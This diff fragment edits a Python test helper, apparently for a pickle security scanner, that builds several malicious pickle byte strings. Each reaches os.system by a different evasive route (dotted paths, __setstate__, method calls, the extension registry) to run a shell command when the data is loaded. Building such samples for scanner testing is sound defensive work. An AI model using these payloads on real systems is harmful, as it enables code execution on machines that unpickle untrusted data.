@@ -203,11 +203,7 @@ def hostile(target):
         "stack-global": b"\x80\x04" + text("os") + text("system") + b"\x93" + shell + b"\x85R.",
         "dotted": b"\x80\x04" + text("collections") + text("abc.sys.modules") + b"\x93" + shell + b"\x85R.",
         "dotted-path": b"\x80\x04" + text("pathlib") + text("os.system") + b"\x93" + shell + b"\x85R.",
-        "setstate": b"\x80\x02cbuiltins\nobject\n)\x81}(X\x0c\x00\x00\x00__setstate__cos\nsystem\nub"
-        + shell
-        + b"b0cos\nsystem\n("
-        + shell
-        + b"tR.",
+        "setstate": b"\x80\x02cbuiltins\nobject\n)\x81}" + text("__setstate__") + b"cos\nsystem\nsb" + shell + b"b0" + reduced,
         "call-of-a-method": b"\x80\x02ccollections\nOrderedDict\n)R" + shell + b"\x85R.",
         "call-of-a-call": b"\x80\x02cpathlib\nPosixPath\n)R" + shell + b"\x85R.",
         "extension": b"\x80\x02\x82\x01" + shell + b"\x85R.",
